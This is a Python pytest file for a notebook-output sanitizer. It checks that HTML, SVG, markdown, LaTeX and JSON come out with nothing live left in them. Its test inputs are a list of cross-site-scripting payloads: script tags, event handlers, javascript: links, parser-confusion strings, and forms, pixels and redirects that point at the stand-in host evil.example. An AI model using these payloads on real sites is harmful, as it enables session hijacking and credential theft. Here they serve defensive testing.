"""What passes of a container's rich output: nothing that runs, loads or leaves its place."""

from __future__ import annotations

import base64
import html
import re
import time
from typing import Any

import pytest
from support import patience

from ipycontainers.sessions import markup
from ipycontainers.sessions.rich import harmless

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(32)).decode()
SCRIPT_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>x()</script></svg>"


def shown(data: dict[str, Any], *, trust: bool = False) -> dict[str, Any]:
    return harmless(data, {}, trust=trust)[0]


def cleaned(text: str) -> str:
    return str(shown({"text/html": text}).get("text/html", ""))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<b onmouseover='alert(1)'>b</b>",
        "<a href='javascript:alert(1)'>a</a>",
        "<a href='JaVa&#x09;script:alert(1)'>a</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
        "<a href='vbscript:x'>a</a>",
        "<iframe src='//evil.example'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='x.swf'></object><embed src='x'>",
        "<form action='//evil.example'><input name=password><button>go</button></form>",
        "<style>body { display: none }</style>",
        "<link rel=stylesheet href='//evil.example/x.css'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href='//evil.example/'>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<div style='background: url(//evil.example/pixel)'>x</div>",
        "<div style='position: fixed; inset: 0; z-index: 9999'>over all</div>",
        "<video src='//evil.example' onerror=alert(1)></video>",
        "<template><script>alert(1)</script></template>",
        "<img src='https://evil.example/pixel.png'>",
        "<img srcset='https://evil.example/pixel.png'>",
        "<table background='https://evil.example/pixel.png'></table>",
        "<td class='jp-mod-trusted lm-Menu'>x</td>",
        "<p id=kernel name=kernel>clobber</p>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
    ],
)
def test_nothing_live_is_left_of_html(text: str) -> None:
    left = cleaned(text)
    live = r"<\s*(?:script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|"
    live += r"video|template|noscript)\b|\son\w+=|script:|evil\.example|data:text|position|url\("
    live += r"|jp-mod|\b(?:id|name|srcset)="
    assert not re.search(live, re.sub(r'title="[^"]*"', "", left), re.IGNORECASE), left


def test_a_table_of_pandas_looks_as_it_did() -> None:
    table = (
        '<table border="1" class="dataframe">\n<thead>\n<tr style="text-align:right">\n<th></th>'
        "<th>a</th></tr></thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table>"
    )
    left = cleaned(table)
    assert '<table border="1" class="dataframe">' in left
    assert "text-align:right" in left
    assert "<td>1</td>" in left


def test_links_and_pictures_of_the_text_itself_stay() -> None:
    left = cleaned(
        f'<a href="https://example.org/">a</a><img src="data:image/png;base64,{PNG}" width="9">'
    )
    assert 'href="https://example.org/"' in left
    assert "noopener" in left
    assert f"data:image/png;base64,{PNG}" in left


def test_svg_is_a_picture() -> None:
    data = shown({"image/svg+xml": SCRIPT_SVG, "text/plain": "svg"})
    assert set(data) == {"text/html", "text/plain"}
    picture = r'<img src="data:image/svg\+xml;base64,([\w+/=]+)" style="background-color: white">'
    found = re.fullmatch(picture, data["text/html"])
    assert found
    assert base64.b64decode(found[1]).decode() == SCRIPT_SVG


def test_pictures_are_what_they_say() -> None:
    assert shown({"image/png": PNG})["image/png"] == PNG
    assert "image/jpeg" not in shown({"image/jpeg": PNG})
    assert "image/png" not in shown({"image/png": PNG[:40] + '"><script>alert(1)</script>'})
    assert "image/png" not in shown({"image/png": ["a", 1]})


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.vega.v5+json",
        "application/pdf",
        "text/html; charset=utf-8",
        "TEXT/HTML",
        "text/vnd.mermaid",
    ],
)
def test_other_types_do_not_pass(kind: str) -> None:
    assert shown({kind: "alert(1)", "text/plain": "p"}) == {"text/plain": "p"}
    assert kind in shown({kind: "alert(1)"})["text/plain"]


def test_markdown_is_its_text() -> None:
    text = "**b** <img src=x onerror=alert(1)> [a](javascript:alert(1))"
    assert shown({"text/markdown": text, "text/plain": "<Markdown object>"}) == {"text/plain": text}
    assert shown({"text/markdown": "m", "text/html": "<b>h</b>", "text/plain": "p"}) == {
        "text/html": "<b>h</b>",
        "text/plain": "p",
    }


def test_latex_has_no_links_and_no_styles() -> None:
    assert shown({"text/latex": r"$\frac{x^2}{\sqrt 2}$"})["text/latex"] == r"$\frac{x^2}{\sqrt 2}$"
    for bad in (r"$\href{javascript:alert(1)}{x}$", r"$\style{position: fixed}{x}$"):
        assert "text/latex" not in shown({"text/latex": bad})
    assert "text/latex" not in shown({"text/latex": r"$\let\x=\href \x{javascript:a()}{b}$"})


def test_json_is_data() -> None:
    assert shown({"application/json": {"a": [1, None]}})["application/json"] == {"a": [1, None]}
    assert "application/json" not in shown({"application/json": {"a": float("nan")}})
    deep: list[Any] = []
    for _ in range(100_000):
        deep = [deep]
    assert "application/json" not in shown({"application/json": deep})


def test_metadata_is_a_width_and_a_height() -> None:
    told = {"image/png": {"width": 10, "height": -1, "isolated": True, "x": {}}, "other": {}}
    assert harmless({"image/png": PNG}, told)[1] == {"image/png": {"width": 10}}
    assert harmless({"image/png": PNG}, {"image/png": "<script>"})[1] == {}


def test_there_is_always_a_text() -> None:
    assert shown({"image/png": PNG})["text/plain"] == ""
    assert "text/plain" in shown({})
    assert shown({"text/plain": 7}) == {"text/plain": "<not shown: nothing>"}


def test_large_texts_are_cut() -> None:
    assert len(shown({"text/plain": "x" * 10_000_000})["text/plain"]) < 5_000_000
    assert "text/html" not in shown({"text/html": "<b>" * 10_000_000})


def test_html_that_would_take_hours_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "PATIENCE", 2.0)
    start = time.monotonic()
    assert "text/html" not in shown({"text/html": "<div>" * 800_000, "text/plain": "p"})
    assert time.monotonic() - start < 60 * patience()
    rows = "<tr><td>1</td></tr>" * 20_000
    monkeypatch.setattr(markup, "PATIENCE", 120.0)
    assert cleaned(f"<table>{rows}</table><script>x</script>").count("<td>1</td>") == 20_000


def test_with_trust_a_script_runs_in_a_frame_apart() -> None:
    text = '<p id="p"></p><script>p.textContent = \'done & "quoted"\'</script>'
    made = shown({"text/html": text}, trust=True)["text/html"]
    found = re.fullmatch(r'<iframe sandbox="([^"]*)" [^<>]*srcdoc="([^"]*)"[^<>]*></iframe>', made)
    assert found
    assert found[1] == "allow-scripts"
    assert html.unescape(found[2]) == text


def test_with_trust_what_has_no_script_is_cleaned_all_the_same() -> None:
    made = shown({"text/html": "<b>b</b><marquee>m</marquee>"}, trust=True)["text/html"]
    assert made == "<b>b</b>m"


def test_with_trust_javascript_is_in_a_frame_too() -> None:
    made = shown({"application/javascript": "alert(1)", "text/plain": "p"}, trust=True)
    assert 'sandbox="allow-scripts"' in made["text/html"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in made["text/html"]


@pytest.mark.parametrize(
    "html",
    [
        "<script>draw()</script>",
        "<div> <div id='a' style='height: 525px'></div>\n<script>draw()</script></div>\n",
    ],
)
def test_html_of_scripts_alone_says_what_would_show_it(html: str) -> None:
    data = shown({"text/html": html, "text/plain": "<Chart>"})
    assert set(data) == {"text/plain"}
    assert data["text/plain"].startswith("<Chart>\n")
    assert "--trust" in data["text/plain"]
    assert "--trust" not in shown({"text/html": "", "text/plain": "<Chart>"})["text/plain"]
    assert "--trust" not in shown({"text/html": html, "image/png": PNG})["text/plain"]


@pytest.mark.parametrize("html", ["a", "<p>a</p>", " <hr> ", "<li></li>", "<div>\n a</div>"])
def test_html_in_which_there_is_something_to_see_is_shown(html: str) -> None:
    assert "text/html" in shown({"text/html": html + "<script>draw()</script>"})
